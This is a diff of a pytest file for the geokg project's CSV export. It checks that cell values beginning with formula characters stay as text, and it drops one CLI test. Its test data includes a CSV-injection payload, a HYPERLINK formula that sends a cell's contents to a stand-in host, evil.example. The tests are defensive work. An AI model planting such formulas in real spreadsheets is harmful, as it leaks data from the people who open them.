@@ -11,12 +11,8 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
-from cli_support import geokg
 
 from geokg.graph.analysis.export import FORMULA_START, csv_text
-from geokg.graph.model import Article, Entity, Fragment
-from geokg.graph.stores.embedded import EmbeddedStore
-from geokg.graph.stores.writer import write_fragments
 
 ROOT = Path(__file__).resolve().parents[2]
 PAYLOADS = [start + 'HYPERLINK("http://evil.example/?x="&A1,"click")' for start in FORMULA_START]
@@ -39,15 +35,6 @@ def test_formula_in_a_header_stays_text(payload):
 def test_plain_text_and_numbers_are_unchanged():
     assert _cells(csv_text(pd.DataFrame({"name": ["Belarus"], "n": [-3]})))[1] == ["Belarus", "-3"]
 
-
-def test_cli_query_csv_keeps_an_articles_formula_as_text(tmp_path):
-    db = tmp_path / "g.lbdb"
-    s = EmbeddedStore(db)
-    evil = Entity("Person", "evil", PAYLOADS[0])
-    write_fragments(s, [Fragment(Article(Article.make_id(None, "evil"), "t", published="2023-01-01"), (evil,))])
-    s.close()
-    res = geokg("query", "MATCH (p:Person) RETURN p.name AS name, 1 AS `=1+1`", "--format", "csv", db=db)
-    assert _cells(res.stdout) == [["name", "'=1+1"], ["'" + PAYLOADS[0], "1"]], res.stderr
 
 
 def test_no_csv_leaves_the_app_but_through_the_formula_guard():
